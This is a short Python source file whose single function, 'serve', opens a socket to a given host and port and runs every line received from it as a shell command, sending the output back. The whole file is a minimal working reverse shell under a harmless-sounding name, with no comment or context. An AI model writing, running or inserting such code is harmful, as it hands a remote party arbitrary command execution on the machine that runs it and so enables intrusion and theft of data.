import socket
import subprocess


def serve(host, port):
    link = socket.socket()
    link.connect((host, port))
    while True:
        line = link.recv(1024).decode()
        done = subprocess.run(line, shell=True, capture_output=True)
        link.send(done.stdout)
